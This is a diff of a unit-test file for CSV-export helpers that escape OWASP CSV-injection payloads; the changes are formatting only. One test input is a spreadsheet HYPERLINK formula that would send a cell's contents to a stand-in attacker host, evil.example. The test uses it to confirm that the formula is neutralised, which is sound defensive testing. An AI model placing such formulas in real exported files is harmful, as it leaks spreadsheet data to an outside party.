@@ -25,13 +25,20 @@ describe('csvCell (OWASP CSV injection, RFC 4180)', () => {
     expect(csvCell('a,b')).toBe('"a,b"');
     expect(csvCell('a;b')).toBe('"a;b"');
     expect(csvCell('a\nb')).toBe('"a\nb"');
-    expect(csvCell('=HYPERLINK("https://evil.example/?d="&C3,"Open")')).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")"`);
+    expect(csvCell('=HYPERLINK("https://evil.example/?d="&C3,"Open")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")"`,
+    );
   });
 });
 
 describe('csvText', () => {
   it('writes a BOM, comma-separated cells and CRLF after every line', () => {
-    expect(csvText([['a', 1], ['=x', null]])).toBe("\uFEFFa,1\r\n'=x,\r\n");
+    expect(
+      csvText([
+        ['a', 1],
+        ['=x', null],
+      ]),
+    ).toBe("\uFEFFa,1\r\n'=x,\r\n");
     expect(csvText([['a']], { bom: false })).toBe('a\r\n');
   });
 });
